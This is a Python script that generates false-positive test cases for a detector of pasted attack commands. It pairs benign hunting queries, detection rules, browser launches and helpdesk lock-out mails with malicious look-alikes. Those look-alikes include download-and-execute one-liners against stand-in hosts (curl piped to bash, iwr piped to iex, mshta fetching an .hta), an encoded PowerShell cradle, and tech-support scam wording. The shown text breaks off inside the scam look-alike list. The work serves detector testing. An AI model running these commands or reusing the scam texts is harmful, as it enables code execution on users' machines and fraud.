"""Writes tests/data/cases/fpover17.jsonl: ordinary texts people copy from pages that are not the
tool's own and paste somewhere (a SIEM's query box, a terminal, the Run box, an editor, a mail),
read as attacks, written here from general knowledge of such pages (no blind set, lure collection
or other detector's fixtures read; none of fpsweep15/16's or design16's texts), each technique
cleared beside the look-alikes that try to abuse the clearing and must stay flagged or blocked.

    python tests/data/cases/make_fpover17.py

Deterministic. Real vendors' documentation hosts stand for the pages real texts come from;
invented hosts are reserved names (*.test, *.example, *.invalid, documentation addresses), phone
numbers are in 555 blocks. Each line is {id, text, expect, technique, platform, source, target}.
Texts word for word in the dev corpus or in the earlier sweeps are left out when the file is
written. Those still flagged in their own context are in LEFT (with why), not in the file.

Cleared here, by technique (each beside the look-alikes that must stay flagged or blocked):

- `detection-content`: a hunting query or a detection rule (Microsoft's KQL, Splunk's SPL,
  Elastic's EQL and ES|QL, LogScale, osquery's SQL, YARA, Sigma's YAML, Suricata) that names the
  techniques it looks for as strings (`has_any ("-enc", "iex")`, `$b = "mshta http"`,
  `CommandLine|contains: '| sh'`) was read as the commands it matches. queries.py reads the
  grammar, every line of it: a source that names no program, stages after a pipe (refused by
  every shell), keys, `$name =` and expressions; the commands sit in quotes and lists. Its
  command findings count as a sentence's do. A line that fits no grammar (a command under a
  query's header), `$(…)`, backticks, `;`, `&&`, `||` outside quotes, a shell after a pipe or a
  program where a query's source stands keep their weight.
- `typed-browser-launch`: typed into the Run box (no source), a browser given one page's address
  (`msedge https://portal.office.com`, `chrome --incognito https://mail.example`) is taken like
  the address alone (runbox.yaml `{url}`), and Explorer given a Settings page
  (`explorer ms-settings:windowsupdate`) like the page alone, from any source. A host anyone
  publishes on, an address by number, a user part, a port, a fake check's word, a file to run, a
  switch that loads code, a second address or a chained command keep it a command; written by a
  page for the Run box it is a command as before.
- `helpdesk-mail`: an organisation's own lock-out notice ("your account has been locked, call
  the service desk, ext. 4321, or open a ticket"), in fourteen languages, was read as the
  tech-support scam it shares a sentence with. With the organisation's own extension or portal
  and nothing a scam needs (infection, "don't switch off", hurry, money, a remote-access tool, a
  free-phone number, a brand's support line: helpdesk.py) its scam-call findings are dropped.
  The same mail with any of those stays flagged.
- `vendor-bucket-msiexec`: a vendor's own docs giving `msiexec /i` of its installer kept in a
  cloud bucket (Datadog's ddagent-windows-stable, Rapid7's com.rapid7.…) vouch for it when the
  bucket or the installer's file is named after the company, read through the page's
  registrable domain (datadoghq -> datadog; a reverse-domain bucket). A lure page with the same
  line, an unrelated bucket or file, a community page, a look-alike site stay blocked.
- `writeup-quoting-lure` (in part): a defanged sample in parentheses after a sentence's word is
  quoted as double quotes quote it (prose.is_sample_write_up).

The rest is a sweep of the kinds a fresh hold-out holds (other projects' installer lines, admin
one-liners from vendors' docs and Q&A, console snippets, write-ups and incident notes, support
mails and order confirmations in several languages, OAuth/OIDC docs, Run-box and Explorer
entries, config and logs, CI YAML, Dockerfiles, MDM/Intune scripts, EDR exclusion docs).
"""

from __future__ import annotations

from pathlib import Path

from casefile import (  # beside this script, which runs as tests/data/cases/make_*.py
    DEV,
    Book,
    texts_in,
    write,
)

OUT = Path(__file__).with_name("fpover17.jsonl")
EARLIER = [
    Path(__file__).with_name(n) for n in ("fpsweep15.jsonl", "fpsweep16.jsonl", "design16.jsonl")
]
TERMINAL = "terminal"
RUN = "run_dialog"
BAR = "explorer_bar"
CONSOLE = "browser_console"
UNKNOWN = "unknown"
OTHER = "other"
CHECK_PAGE = "https://verify-session.umbra-stage.test/check"

# -- detection content: hunting queries and rules that NAME techniques as strings to match -------

MS_HUNT = "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-query-language"
SENTINEL = "https://github.com/Azure/Azure-Sentinel/blob/master/Hunting%20Queries/"
SPLUNK = "https://research.splunk.com/endpoint/"
SIGMA = "https://github.com/SigmaHQ/sigma/tree/master/rules/windows/process_creation"
YARA = "https://github.com/Neo23x0/signature-base/tree/master/yara"
ELASTIC = "https://github.com/elastic/detection-rules/tree/main/rules/windows"

DETECTION = [
    # Microsoft Defender / Sentinel KQL
    (
        MS_HUNT,
        """DeviceProcessEvents
| where Timestamp > ago(7d)
| where FileName in~ ("mshta.exe", "powershell.exe", "pwsh.exe")
| where ProcessCommandLine has_any ("-enc", "iex", "DownloadString", "curl", "http")
| project Timestamp, DeviceName, AccountName, ProcessCommandLine""",
    ),
    (
        SENTINEL + "RunMRU",
        """DeviceRegistryEvents
| where RegistryKey has @"\\Explorer\\RunMRU"
| where RegistryValueData has_any ("powershell", "mshta", "curl", "-w hidden", "iex", "http")
| project Timestamp, DeviceName, InitiatingProcessAccountName, RegistryValueData
| order by Timestamp desc""",
    ),
    (
        "https://www.microsoft.com/en-us/security/blog/2025/08/21/think-before-you-clickfix-analyzing-the-clickfix-social-engineering-technique/",
        """// ClickFix: a command typed into the Run dialog that starts a script host
DeviceProcessEvents
| where InitiatingProcessFileName =~ "explorer.exe"
| where FileName in~ ("powershell.exe", "mshta.exe", "cmd.exe", "conhost.exe")
| where ProcessCommandLine has_any ("iwr", "irm", "Invoke-WebRequest", "DownloadString", "-EncodedCommand", "--headless")
| summarize count() by DeviceName, ProcessCommandLine""",
    ),
    (
        SENTINEL + "EncodedPowerShell",
        """let lookback = 14d;
SecurityEvent
| where TimeGenerated > ago(lookback)
| where EventID == 4688
| where CommandLine has "powershell" and CommandLine has_any ("-enc", "-EncodedCommand", "-e ")
| extend Decoded = base64_decode_tostring(extract(@"-[Ee][Nn][Cc]\\w*\\s+(\\S+)", 1, CommandLine))
| project TimeGenerated, Computer, Account, CommandLine, Decoded""",
    ),
    (
        MS_HUNT,
        """DeviceNetworkEvents
| where InitiatingProcessFileName in~ ("mshta.exe", "rundll32.exe", "regsvr32.exe")
| where RemoteUrl !endswith ".microsoft.com"
| project Timestamp, DeviceName, InitiatingProcessCommandLine, RemoteUrl, RemoteIP""",
    ),
    (
        SENTINEL + "CurlPipeShell",
        """Syslog
| where Facility == "authpriv" or ProcessName == "bash"
| where SyslogMessage has_all ("curl", "| sh") or SyslogMessage has_all ("wget", "| bash")
| project TimeGenerated, Computer, SyslogMessage""",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/sentinel/hunting",
        """let suspicious = dynamic(["mshta", "rundll32 javascript:", "regsvr32 /i:http", "certutil -urlcache", "bitsadmin /transfer"]);
DeviceProcessEvents
| where ProcessCommandLine has_any (suspicious)
| summarize FirstSeen=min(Timestamp), LastSeen=max(Timestamp), Count=count() by DeviceName, FileName""",
    ),
    (
        MS_HUNT,
        """DeviceProcessEvents
| where FileName =~ "rundll32.exe"
    and ProcessCommandLine has "javascript:"
    and ProcessCommandLine has "RunHTMLApplication"
| project Timestamp, DeviceName, ProcessCommandLine, InitiatingProcessFileName""",
    ),
    (
        "https://www.huntress.com/blog/",
        """DeviceProcessEvents
| where FileName =~ "conhost.exe" and ProcessCommandLine has "--headless"
| where ProcessCommandLine has_any ("powershell", "curl", "mshta")
| join kind=leftouter (DeviceNetworkEvents | project DeviceId, RemoteUrl) on DeviceId
| take 100""",
    ),
    (
        SENTINEL + "FileFix",
        """DeviceProcessEvents
| where InitiatingProcessFileName in~ ("msedge.exe", "chrome.exe", "firefox.exe", "explorer.exe")
| where FileName =~ "powershell.exe"
| where ProcessCommandLine contains "#" and ProcessCommandLine has_any (".pdf", ".docx", "\\\\Shared")
| project Timestamp, DeviceName, ProcessCommandLine""",
    ),
    # Splunk SPL
    (
        SPLUNK + "windows_mshta_execution_with_network_connection/",
        """index=windows sourcetype=XmlWinEventLog EventCode=4688
| search CommandLine="*powershell*-enc*" OR CommandLine="*mshta*http*" OR CommandLine="*curl*|*sh*"
| stats count by host, user, CommandLine""",
    ),
    (
        SPLUNK + "windows_powershell_downloadstring/",
        """`sysmon` EventCode=1 Image="*\\\\powershell.exe" CommandLine IN ("*DownloadString*", "*Invoke-WebRequest*", "*iwr *", "*iex*")
| stats min(_time) as firstTime max(_time) as lastTime count by dest user parent_process_name CommandLine
| `security_content_ctime(firstTime)`
| `security_content_ctime(lastTime)`""",
    ),
    (
        SPLUNK + "windows_runmru_command_execution/",
        """| tstats `security_content_summariesonly` count from datamodel=Endpoint.Registry where Registry.registry_path="*\\\\Explorer\\\\RunMRU*" by Registry.dest Registry.registry_value_data
| `drop_dm_object_name(Registry)`
| search registry_value_data IN ("*powershell*", "*mshta*", "*curl*", "*cmd /c*")""",
    ),
    (
        "https://lantern.splunk.com/Security/",
        """index=linux sourcetype=linux:audit type=EXECVE (a0="curl" OR a0="wget") (a1="-fsSL" OR a1="-qO-")
| table _time host a0 a1 a2 a3
| sort - _time""",
    ),
    (
        "https://docs.splunk.com/Documentation/Splunk/latest/SearchReference/Rex",
        """index=proxy sourcetype=squid url="*.hta" OR url="*/verify.ps1"
| rex field=url "https?://(?<domain>[^/]+)"
| stats dc(src_ip) as clients values(url) as urls by domain
| where clients > 3""",
    ),
    # YARA
    (
        YARA,
        """rule ClickFix_Clipboard_Lure
{
    meta:
        description = "Fake CAPTCHA page writing a PowerShell command to the clipboard"
        author = "Blue team"
    strings:
        $a = "navigator.clipboard.writeText" ascii
        $b = "powershell -w hidden -enc" nocase
        $c = "mshta http" nocase
        $d = "I am not a robot" ascii
    condition:
        $a and 1 of ($b, $c, $d)
}""",
    ),
    (
        "https://yara.readthedocs.io/en/stable/writingrules.html",
        """import "pe"

rule Suspicious_HTA_Downloader : hta loader
{
    meta:
        reference = "internal IR case 2025-114"
    strings:
        $s1 = "<HTA:APPLICATION" nocase
        $s2 = "WScript.Shell" nocase
        $s3 = ".Run(\\"powershell" nocase
        $s4 = "FromBase64String" ascii wide
    condition:
        filesize < 200KB and $s1 and 2 of ($s2, $s3, $s4)
}""",
    ),
    (
        "https://github.com/elastic/protections-artifacts/tree/main/yara/rules",
        """rule Linux_Stealer_CurlPipe {
    strings:
        $curl = "curl -fsSL" ascii
        $pipe = "| bash" ascii
        $osa = "osascript -e" ascii
        $hex = { 63 75 72 6C 20 2D 73 }
    condition:
        ($curl and $pipe) or ($osa and $hex)
}""",
    ),
    (
        "https://www.proofpoint.com/us/blog/threat-insight",
        """rule PS_IEX_DownloadString
{
    strings:
        $iex = /iex\\s*\\(\\s*(New-Object\\s+Net\\.WebClient|iwr)/ nocase
        $enc = "-EncodedCommand" nocase wide ascii
    condition:
        uint16(0) != 0x5A4D and any of them
}""",
    ),
    # Sigma (YAML)
    (
        "https://github.com/SigmaHQ/sigma/blob/master/rules/windows/process_creation/proc_creation_win_mshta_http.yml",
        """title: Mshta Started From RunMRU
status: experimental
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\\mshta.exe'
        CommandLine|contains:
            - 'http://'
            - 'https://'
    selection_parent:
        ParentImage|endswith: '\\explorer.exe'
    condition: selection and selection_parent
level: high""",
    ),
    (
        SIGMA,
        """title: PowerShell Download Cradle Via Run Dialog
id: 3f9e5c1a-7b2d-4e8f-9a01-5c6d7e8f9a0b
description: Detects a download cradle typed into the Run dialog (ClickFix)
tags:
    - attack.execution
    - attack.t1204.004
logsource:
    category: registry_set
    product: windows
detection:
    selection:
        TargetObject|contains: '\\Explorer\\RunMRU\\'
        Details|contains|all:
            - 'powershell'
            - 'iwr'
            - 'iex'
    condition: selection
falsepositives:
    - Administrators typing commands into the Run dialog
level: high""",
    ),
    (
        SIGMA,
        """detection:
  selection:
    CommandLine|contains|all:
      - 'powershell'
      - '-enc'
  selection_curl:
    CommandLine|contains:
      - 'curl'
      - '| sh'
      - 'rundll32 \\\\'
  condition: 1 of selection*""",
    ),
    (
        "https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/proc_creation_lnx_curl_wget_pipe.yml",
        """title: Download And Pipe To Shell
logsource:
    product: linux
    category: process_creation
detection:
    selection_download:
        CommandLine|contains:
            - 'curl '
            - 'wget '
    selection_pipe:
        CommandLine|contains:
            - '| bash'
            - '| sh'
            - '|bash'
    condition: all of selection_*
level: medium""",
    ),
    (
        "https://github.com/SigmaHQ/sigma/blob/master/rules/macos/process_creation/proc_creation_macos_osascript_password_prompt.yml",
        """title: Osascript Password Dialog
logsource:
    product: macos
    category: process_creation
detection:
    selection:
        Image|endswith: '/osascript'
        CommandLine|contains|all:
            - 'display dialog'
            - 'hidden answer'
    condition: selection
level: high""",
    ),
    # Elastic EQL / ES|QL
    (
        ELASTIC,
        """process where host.os.type == "windows" and event.type == "start" and
  process.name : "mshta.exe" and
  process.args : ("http*", "*javascript*", "*vbscript*") and
  process.parent.name : "explorer.exe\"""",
    ),
    (
        ELASTIC,
        """sequence by host.id with maxspan=1m
  [process where process.name : "powershell.exe" and process.command_line : ("*iwr*", "*Invoke-WebRequest*")]
  [network where process.name : "powershell.exe" and destination.port == 443]""",
    ),
    (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/esql.html",
        """FROM logs-endpoint.events.process-*
| WHERE process.name == "powershell.exe" AND process.command_line LIKE "*-EncodedCommand*"
| STATS hosts = COUNT_DISTINCT(host.name) BY process.command_line
| SORT hosts DESC
| LIMIT 20""",
    ),
    # osquery SQL
    (
        "https://osquery.readthedocs.io/en/stable/introduction/sql/",
        """SELECT pid, name, cmdline, parent FROM processes
WHERE name IN ('powershell.exe', 'mshta.exe')
AND (cmdline LIKE '%-enc%' OR cmdline LIKE '%DownloadString%' OR cmdline LIKE '%http%');""",
    ),
    # Suricata / Snort
    (
        "https://docs.suricata.io/en/latest/rules/intro.html",
        """alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET POLICY PowerShell DownloadString in URI"; flow:established,to_server; http.uri; content:"DownloadString"; nocase; http.user_agent; content:"PowerShell"; sid:1000101; rev:1;)""",
    ),
    # CrowdStrike LogScale / Falcon
    (
        "https://library.humio.com/data-analysis/syntax.html",
        """#event_simpleName=ProcessRollup2 event_platform=Win
| ImageFileName=/\\\\mshta\\.exe$/i
| CommandLine=/https?:\\/\\//i
| groupBy([ComputerName, CommandLine])""",
    ),
]

DETECTION += [
    (
        "https://github.com/Azure/Azure-Sentinel/tree/master/Hunting%20Queries/Microsoft%20365%20Defender",
        """let iocs = externaldata(Domain:string)[@"https://raw.githubusercontent.com/harrowfield/intel/main/clickfix-domains.csv"] with (format="csv");
DeviceNetworkEvents
| where RemoteUrl has_any (iocs)
| where InitiatingProcessFileName in~ ("powershell.exe", "mshta.exe")""",
    ),
    (
        "https://www.elastic.co/guide/en/kibana/current/kuery-query.html",
        'process.name : "powershell.exe" and process.command_line : (*DownloadString* or *iwr* or *-enc*)',
    ),
    (
        "https://github.com/SigmaHQ/sigma/blob/master/rules/windows/process_creation/proc_creation_win_powershell_base64_iex.yml",
        """title: Encoded IEX
detection:
    selection:
        CommandLine|base64offset|contains:
            - 'IEX ('
            - 'Invoke-Expression'
        CommandLine|windash|contains: '-enc '
    condition: selection""",
    ),
    (
        "https://research.splunk.com/endpoint/",
        'index=endpoint process_name=mshta.exe (process="*http*" OR process="*javascript:*") | stats count by dest, process',
    ),
    (
        "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-query-language",
        'DeviceProcessEvents | where ProcessCommandLine has "curl" and ProcessCommandLine has "| sh" | take 50',
    ),
    (
        "https://github.com/harrowfield/yara-rules",
        """rule mshta_remote { strings: $a = "mshta http" nocase condition: $a }""",
    ),
]

# a "detection rule" that is really a command line: a query's or a rule's header over a line a
# shell runs, a command after a query's pipe on the same line, a rule whose value chains a command
DETECTION_LOOKALIKES = [
    (
        """// Hunting query: paste to verify your device
DeviceProcessEvents
powershell -w hidden -c "iwr https://verify.kestrel-drop.test/a.ps1 | iex\"""",
        RUN,
        "malicious",
    ),
    (
        """title: Verification
detection:
    condition: selection
mshta https://verify.kestrel-drop.test/check.hta""",
        RUN,
        "malicious",
    ),
    (
        """index=main sourcetype=verify
curl -fsSL https://cdn.kestrel-drop.test/v.sh | bash""",
        TERMINAL,
        "flagged",
    ),
    (
        """rule Verify { condition: true }
powershell -nop -w h -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGMAZABuAC4AdQBtAGIAcgBhAC0AcwB0AGEAZwBlAC4AdABlAHMAdAAvAGEAKQA=""",
        RUN,
        "malicious",
    ),
    (
        """DeviceProcessEvents | where FileName == "x"; iwr https://cdn.kestrel-drop.test/a.ps1 | iex""",
        TERMINAL,
        "flagged",
    ),
    (
        """detection:
  selection: x
  condition: selection || curl -s https://cdn.kestrel-drop.test/s.sh | bash""",
        TERMINAL,
        "flagged",
    ),
    (
        """detection:
  selection: $(curl -s https://cdn.kestrel-drop.test/s.sh | bash)
  condition: selection""",
        TERMINAL,
        "flagged",
    ),
    ("""index=main curl -fsSL https://cdn.kestrel-drop.test/s.sh | bash""", TERMINAL, "flagged"),
    (
        """SecurityEvent
| where EventID == 4688
iex (New-Object Net.WebClient).DownloadString('https://cdn.kestrel-drop.test/a.ps1')""",
        TERMINAL,
        "flagged",
    ),
    (
        """rule Check
{
    condition:
        curl -fsSL https://cdn.kestrel-drop.test/s.sh | sh
}""",
        TERMINAL,
        "flagged",
    ),
    (
        """process where process.name : "x"
mshta https://verify.kestrel-drop.test/check.hta""",
        RUN,
        "malicious",
    ),
    (
        """SELECT * FROM processes;
curl -s http://198.51.100.7/x.sh | bash""",
        TERMINAL,
        "flagged",
    ),
]


def detection(book: Book) -> None:
    for i, (page, text) in enumerate(DETECTION):
        book.add(
            "detection-content", text, "not_flagged", "any", (OTHER, UNKNOWN, TERMINAL)[i % 3], page
        )
        if i % 2 == 0:
            book.add("detection-content", text, "not_flagged", "any", UNKNOWN, None)
    for text, target, expect in DETECTION_LOOKALIKES:
        book.add("detection-content", text, expect, "any", target, CHECK_PAGE)
        book.add("detection-content", text, "flagged", "any", target, None)


# -- typed Run-box entries: a browser given a page, Explorer given a settings page or shell folder -

# typed (no source): a person opening a page in a browser of their choice, a private window, or
# a page of Windows' Settings through Explorer
RUN_TYPED = [
    "msedge https://portal.office.com",
    "msedge.exe https://outlook.office.com/mail/",
    "chrome --incognito https://mail.google.com",
    "chrome https://calendar.google.com/calendar/r",
    "chrome.exe --new-window https://github.com/notifications",
    "firefox -private-window https://duckduckgo.com",
    "firefox https://developer.mozilla.org/en-US/docs/Web/API",
    "firefox -new-tab -url https://bugzilla.mozilla.org/",
    "msedge --inprivate https://myaccount.microsoft.com",
    "msedge -inprivate https://intranet/",
    "chrome http://router.asus.com",
    "msedge https://contoso.sharepoint.com/sites/IT",
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --incognito https://www.bbc.co.uk/news',
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" https://teams.microsoft.com',
    "firefox -new-tab -url https://bugzilla.mozilla.org/home",
    "msedge --profile-directory=Default https://outlook.office.com",
    "chrome http://192.168.1.1",
    "explorer ms-settings:windowsupdate",
    "explorer ms-settings:privacy-webcam",
    "explorer.exe ms-settings:network-proxy",
    "explorer ms-settings:defaultapps",
    "explorer ms-settings:",
    "explorer shell:startup",
    "explorer shell:Downloads",
    "explorer shell:::{21EC2020-3AEA-1069-A2DD-08002B30309D}",
]
# a lure host (a tunnel, a paste site, an address by number, a user part, a port, a fake check's
# word, a file to run), a switch that loads code into the browser, a second page, a chained
# command; typed or, worse, written by a page for the Run box
RUN_TYPED_LOOKALIKES = [
    "chrome https://verify-human.trycloudflare.com/",
    "msedge https://pastebin.com/raw/Xk2pQ9aZ",
    "chrome https://203.0.113.45/login",
    "msedge https://portal.office.com@198.51.100.9/",
    "chrome --incognito https://captcha-check.kestrel-drop.test/verify",
    "msedge https://updates.kestrel-drop.test/KB5034441.hta",
    "chrome https://files.kestrel-drop.test/fix.exe",
    "msedge --app=https://files.kestrel-drop.test/",
    "chrome --load-extension=%TEMP%\\ext https://mail.example",
    "chrome --remote-debugging-port=9222 https://mail.example",
    "msedge https://portal.office.com https://files.kestrel-drop.test/",
    "chrome https://mail.example & curl -s https://files.kestrel-drop.test/a.bat -o %TEMP%\\a.bat",
    "explorer ms-settings:display & powershell -w h -c iwr https://files.kestrel-drop.test/a.ps1|iex",
    "explorer https://files.kestrel-drop.test/x.hta",
    "chrome hxxps://files[.]kestrel-drop[.]test/",
]


def run_typed(book: Book) -> None:
    for text in RUN_TYPED:
        book.add("typed-browser-launch", text, "not_flagged", "windows", RUN, None)
    for text in RUN_TYPED[::4]:
        book.add("typed-browser-launch", text, "not_flagged", "windows", BAR, None)
    for text in RUN_TYPED_LOOKALIKES:
        book.add("typed-browser-launch", text, "flagged", "windows", RUN, None)
    # Since b18benign's weighing (2026-12-07 afternoon, runbox.yaml `opens`): a browser given
    # one page's address opens what the address alone opens, taken quietly from any page
    for text in RUN_TYPED[:12:3]:
        book.add("typed-browser-launch", text, "not_flagged", "windows", RUN, CHECK_PAGE)
    for text in RUN_TYPED_LOOKALIKES[::3]:
        book.add("typed-browser-launch", text, "malicious", "windows", RUN, CHECK_PAGE)


# -- an organisation's own help desk: "your account is locked, call the service desk" ----------

HELPDESK_MAILS = [
    (
        "outlook",
        "en",
        """Hello Maria,

Your network account has been locked after five failed sign-in attempts.
To unlock it, call the IT Service Desk on 020 5555 0142 (ext. 4321) or open a ticket at https://servicedesk.harrowfield.example/.

Kind regards,
IT Service Desk""",
    ),
    (
        "outlook",
        "en",
        """Hello,

Your account has been locked after several failed sign-in attempts.
To unlock it, please contact the IT Service Desk at 01 55 55 12 34 (ext. 4321) or open a ticket at https://helpdesk.harrowfield.example/.

Regards,
IT Department""",
    ),
    (
        "outlook",
        "en",
        """Your account has been locked because your password expired. Please call the help desk on 0161 555 0178, extension 3300, to have it unlocked.""",
    ),
    (
        "teams",
        "en",
        """Hi Tom, your account was locked this morning (too many wrong passwords). Ring the helpdesk on x4410 and they'll reset it, or use the self-service portal at https://passwordreset.harrowfield.example.""",
    ),
    (
        "outlook",
        "en",
        """Your password expires in 3 days. Change it at https://myaccount.harrowfield.example/password before Friday. If you are locked out, contact the Service Desk at extension 2200 or raise a ticket in the IT portal.""",
    ),
    (
        "outlook",
        "fr",
        """Bonjour,

Votre compte a été verrouillé suite à plusieurs tentatives de connexion infructueuses.
Pour le déverrouiller, merci de contacter le support informatique au 01 55 55 12 34 (poste 4321) ou d'ouvrir un ticket sur https://helpdesk.quillmere.example/.

Cordialement,
Service Informatique""",
    ),
    (
        "outlook",
        "fr",
        """Bonjour Julien, votre mot de passe expire dans 5 jours. Vous pouvez le changer sur le portail libre-service https://motdepasse.quillmere.example. En cas de blocage de votre compte, appelez le support au poste 2250.""",
    ),
    (
        "outlook",
        "de",
        """Hallo Frau Becker,

Ihr Konto wurde nach mehreren fehlgeschlagenen Anmeldeversuchen gesperrt.
Bitte wenden Sie sich an den IT-Servicedesk unter 030 5555 0188, Durchwahl 4321, oder erstellen Sie ein Ticket im Self-Service-Portal: https://it.harrowfield.example/portal

Viele Grüße
Ihre IT""",
    ),
    (
        "teams",
        "de",
        """Hi Jonas, dein Konto ist gesperrt (zu viele falsche Passwörter). Ruf kurz beim Helpdesk an, Nebenstelle 4410, die entsperren es dir.""",
    ),
    (
        "outlook",
        "es",
        """Hola Lucía:

Su cuenta ha sido bloqueada tras varios intentos de inicio de sesión fallidos.
Para desbloquearla, llame al Centro de Servicios de TI al 91 555 01 23 (ext. 4321) o abra un ticket en https://soporte.quillmere.example/.

Saludos,
Departamento de Sistemas""",
    ),
    (
        "outlook",
        "es",
        """Su contraseña caduca en 3 días. Puede cambiarla en el portal de autoservicio https://clave.quillmere.example. Si su cuenta está bloqueada, contacte con soporte en la extensión 2210.""",
    ),
    (
        "outlook",
        "it",
        """Buongiorno,

il suo account è stato bloccato dopo diversi tentativi di accesso non riusciti.
Per sbloccarlo contatti l'Help Desk IT al numero 02 5555 0123, interno 4321, oppure apra un ticket su https://helpdesk.harrowfield.example/.

Cordiali saluti,
Servizi Informativi""",
    ),
    (
        "outlook",
        "pt",
        """Olá Ana,

Sua conta foi bloqueada após várias tentativas de login sem sucesso.
Para desbloqueá-la, ligue para a Central de Serviços de TI no (11) 5555-0123, ramal 4321, ou abra um chamado em https://servicos.quillmere.example/.

Atenciosamente,
Equipe de TI""",
    ),
    (
        "outlook",
        "nl",
        """Beste Sanne,

Je account is geblokkeerd na meerdere mislukte aanmeldpogingen.
Neem contact op met de IT-servicedesk via 020 555 0123, toestel 4321, of maak een ticket aan in het selfserviceportaal: https://servicedesk.harrowfield.example/

Met vriendelijke groet,
ICT""",
    ),
    (
        "outlook",
        "pl",
        """Dzień dobry,

Pana konto zostało zablokowane po kilku nieudanych próbach logowania.
Aby je odblokować, proszę zadzwonić do działu IT pod numer 22 555 01 23, wew. 4321, lub utworzyć zgłoszenie w portalu https://helpdesk.quillmere.example/.

Pozdrawiam,
Dział IT""",
    ),
    (
        "outlook",
        "tr",
        """Merhaba Ayşe,

Hesabınız birkaç başarısız oturum açma denemesinden sonra kilitlendi.
Kilidi açmak için BT Hizmet Masası'nı 0212 555 01 23 dahili 4321 numarasından arayın veya https://destek.harrowfield.example/ adresinden bir destek talebi oluşturun.

Saygılarımızla,
Bilgi İşlem""",
    ),
    (
        "outlook",
        "ru",
        """Здравствуйте, Ирина!

Ваша учётная запись заблокирована после нескольких неудачных попыток входа.
Чтобы разблокировать её, позвоните в службу поддержки ИТ по телефону +7 495 555-01-23, доб. 4321, или создайте заявку на портале https://helpdesk.quillmere.example/.

С уважением,
ИТ-отдел""",
    ),
    (
        "outlook",
        "ja",
        """山田様

複数回のサインイン失敗により、お客様のアカウントはロックされました。
ロックを解除するには、情報システム部ヘルプデスク（03-5555-0123 内線4321）までお電話いただくか、https://helpdesk.harrowfield.example/ からチケットを起票してください。

情報システム部""",
    ),
    (
        "outlook",
        "zh",
        """王先生您好：

由于多次登录失败，您的账户已被锁定。
如需解锁，请拨打IT服务台电话 010-5555-0123 转分机 4321，或在 https://helpdesk.quillmere.example/ 提交工单。

信息技术部""",
    ),
    (
        "outlook",
        "ar",
        """مرحباً أحمد،

تم قفل حسابك بعد عدة محاولات تسجيل دخول فاشلة.
لإلغاء القفل، يرجى الاتصال بمكتب خدمة تقنية المعلومات على الرقم 04 555 0123 تحويلة 4321، أو فتح تذكرة عبر https://helpdesk.harrowfield.example/.

قسم تقنية المعلومات""",
    ),
    (
        "outlook",
        "it",
        """Gentile utente, il suo account è bloccato perché la password è scaduta. Può reimpostarla dal portale self-service https://password.harrowfield.example oppure chiamare l'assistenza informatica all'interno 2210.""",
    ),
    (
        "outlook",
        "pt",
        """Prezado colaborador, sua conta está bloqueada porque a senha expirou. Redefina pelo portal de autoatendimento https://senha.quillmere.example ou ligue para o suporte no ramal 2210.""",
    ),
    (
        "outlook",
        "nl",
        """Je account is geblokkeerd omdat je wachtwoord is verlopen. Bel de servicedesk op toestel 2210 of maak een ticket aan via https://servicedesk.harrowfield.example.""",
    ),
    (
        "outlook",
        "pl",
        """Twoje konto jest zablokowane, ponieważ hasło wygasło. Zadzwoń do helpdesku pod numer 22 555 01 88, wew. 2210, albo utwórz zgłoszenie w portalu samoobsługowym.""",
    ),
    (
        "outlook",
        "ru",
        """Ваша учётная запись заблокирована: истёк срок действия пароля. Позвоните в техподдержку по телефону 8 (495) 555-01-88, доб. 2210, или оставьте заявку на портале.""",
    ),
    (
        "outlook",
        "zh",
        """您的账户因密码过期已被锁定。请致电信息技术服务台 021-5555-0188 分机 2210，或登录 https://itsm.harrowfield.example 提交工单。""",
    ),
    (
        "outlook",
        "ar",
        """تم قفل حسابك لانتهاء صلاحية كلمة المرور. يرجى الاتصال بالدعم الفني على 02 555 0188 تحويلة 2210 أو فتح تذكرة عبر بوابة الخدمة الذاتية.""",
    ),
    (
        "outlook",
        "tr",
        """Şifrenizin süresi dolduğu için hesabınız kilitlendi. Lütfen BT destek ekibini 0312 555 01 88 dahili 2210 numarasından arayın veya portal üzerinden destek talebi açın.""",
    ),
    (
        "outlook",
        "es",
        """Hola Pablo, tu cuenta está bloqueada porque la contraseña ha caducado. Llama a soporte al 93 555 01 88, ext. 2210, o crea un ticket en el portal.""",
    ),
    (
        "outlook",
        "ja",
        """パスワードの有効期限切れにより、アカウントがロックされています。ヘルプデスク（内線2210）までお電話いただくか、ITポータルでチケットを起票してください。""",
    ),
    (
        "outlook",
        "ko",
        """김민수님,

여러 번의 로그인 실패로 계정이 잠겼습니다.
잠금을 해제하려면 IT 서비스 데스크(02-555-0123, 내선 4321)로 전화하시거나 https://helpdesk.quillmere.example/ 에서 티켓을 등록해 주세요.

IT 지원팀""",
    ),
]

# the same shape with a scam's ask: an infection, a remote-access tool, a payment or gift card,
# an outside toll-free number with a clock, "don't switch off", a brand's support line
HELPDESK_LOOKALIKES = [
    """Your computer has been blocked because a virus was detected. Do not turn off your PC. Call the Microsoft Service Desk immediately on 1-800-555-0199 (ext. 4321).""",
    """Your account has been locked after failed sign-in attempts. To unlock it, call the helpdesk on 020 5555 0142 (ext. 4321) and install AnyDesk from https://anydesk.kestrel-drop.test/ so the technician can connect.""",
    """Your account has been locked. To unlock it, a fee of $199 is required. Call the IT Service Desk on 1-800-555-0144, ext. 200, and pay with a gift card.""",
    """Votre ordinateur a été bloqué suite à la détection d'un virus. N'éteignez pas votre PC. Appelez le support Microsoft au 0 800 55 55 12 (poste 4321).""",
    """Votre compte a été verrouillé. Pour le déverrouiller, appelez le support au 01 55 55 12 34 (poste 4321) et installez TeamViewer depuis https://tv.kestrel-drop.test/ pour que le technicien prenne la main.""",
    """Ihr Computer wurde wegen eines Trojaners gesperrt. Schalten Sie den PC nicht aus und rufen Sie sofort den Microsoft-Support unter 0800 555 0123 an (Durchwahl 4321).""",
    """Su cuenta ha sido bloqueada por actividad sospechosa. Llame de inmediato al 900 555 012 (ext. 4321) y tenga a mano su tarjeta bancaria para verificar un pago de 299 €.""",
